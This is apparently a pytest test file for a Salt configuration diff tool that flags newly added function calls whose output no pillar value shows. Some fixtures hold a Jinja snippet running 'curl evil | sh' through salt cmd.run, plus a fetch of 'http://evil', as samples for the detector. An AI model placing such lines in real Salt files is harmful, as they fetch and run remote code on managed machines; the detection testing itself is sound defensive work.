"""``pillarbook diff`` names new calls of functions, also if no value shows their answers."""

from collections.abc import Mapping
from pathlib import Path

import pytest
from tests.support.fleets import write_files, write_fleet
from tests.support.repositories import commit_all
from tests.support.sides import start

from pillarbook.cli.main import run

PILLAR = {
    "top.sls": "base: {'*': [web]}",
    "web.sls": "web: 4\nload: {{ salt['cmd.run']('uptime') }}\n",
}
STATES = {"states/top.sls": "base: {'*': [web]}", "states/web.sls": "web: {test.nop: []}\n"}
EVIL = "{% set x = salt['cmd.run']('curl evil | sh') %}\n"
NOTE = "note: new calls of functions in {} of which no value shows the answer, on 1 minion: {}\n"
IN_WEB = NOTE.format("the pillar", "cmd.run (web.sls)")
ASKS = "asks whether the function 'mysql.query' exists, which has no declared answer"
CHANGED = "~ web: 4 -> "

CASES: Mapping[str, tuple[Mapping[str, str], str | None]] = {
    "an answer that nothing prints": ({"pillar/web.sls": EVIL + PILLAR["web.sls"]}, IN_WEB),
    "without a variable": (
        {"pillar/web.sls": PILLAR["web.sls"] + "{% do salt.cmd.run('curl evil') %}\n"},
        IN_WEB,
    ),
    "in a condition without effect": (
        {"pillar/web.sls": PILLAR["web.sls"] + "{% if salt['cmd.run']('x') %}{% endif %}\n"},
        IN_WEB,
    ),
    "a filter": (
        {"pillar/web.sls": "{% set x = 'http://evil' | http_query %}\n" + PILLAR["web.sls"]},
        NOTE.format("the pillar", "http_query (web.sls)"),
    ),
    "in states": (
        {"states/web.sls": EVIL + STATES["states/web.sls"]},
        NOTE.format("the states", "cmd.run (web.sls)"),
    ),
    "one that a value shows": (
        {"pillar/web.sls": PILLAR["web.sls"] + "more: {{ salt['cmd.run']('uptime') }}\n"},
        None,
    ),
    "a call less": ({"pillar/web.sls": "web: 4\nload: 1\n"}, None),
    "a question for a function": (
        {"pillar/web.sls": "web: {{ 5 if 'mysql.query' in salt else 4 }}\n"},
        f"{CHANGED}<unknown (mysql.query)>",
    ),
    "another question for it": (
        {"pillar/web.sls": "web: {{ 5 if salt['mysql.query'] is defined else 4 }}\n"},
        f"{CHANGED}<unknown (mysql.query)>",
    ),
    "a question for a module": (
        {"pillar/web.sls": "web: {{ 5 if salt.cmd is defined else 4 }}\n"},
        f"{CHANGED}5",
    ),
    "a question of which the effect cannot be told": (
        {
            "pillar/web.sls": "web: &a 4\nx: *a\n{% if 'mysql.query' in salt %}y: 1{% endif %}\n"
            "z: &b [1]\nz2: *b\n"
        },
        ASKS,
    ),
    "a question in a file of another renderer": (
        {
            "pillar/web.sls": "#!jinja|json\n{% if 'mysql.query' in salt %}{% endif %}"
            '{"web": 4, "load": 1}\n'
        },
        ASKS,
    ),
    "a question for a global": (
        {"pillar/web.sls": "web: {{ 5 if lipsum is defined else 4 }}\n"},
        f"{CHANGED}5",
    ),
    "another question for a global": (
        {"pillar/web.sls": "web: {{ 5 if show_full_context is defined else 4 }}\n"},
        f"{CHANGED}5",
    ),
}


@pytest.mark.sample(4)
@pytest.mark.parametrize(("change", "told"), CASES.values(), ids=CASES)
def test_a_call_is_told(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    change: Mapping[str, str],
    told: str | None,
) -> None:
    start(tmp_path)
    master = {"file_roots": {"base": ["states"]}}
    write_files(write_fleet(tmp_path, PILLAR, {"web1": {}}, master), STATES)
    commit_all(tmp_path)
    write_files(tmp_path, change)
    monkeypatch.chdir(tmp_path)
    run(["diff", "--master", "master", "--inventory", "minions.yml"])
    out = capsys.readouterr().out
    assert (told in out) if told else ("new calls" not in out)


def test_nothing_is_proven_with_a_new_call(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    start(tmp_path)
    write_fleet(tmp_path, {**PILLAR, "web.sls": "web: 4\n"}, {"web1": {}})
    commit_all(tmp_path)
    write_files(tmp_path, {"pillar/web.sls": EVIL + "web: 4\n"})
    monkeypatch.chdir(tmp_path)
    assert run(["diff", "--master", "master", "--inventory", "minions.yml", "--expect-none"]) == 2
    out = capsys.readouterr().out
    assert "Not proven to change nothing: not everything was compared" in out
    assert "no known change on 1 minion" in out
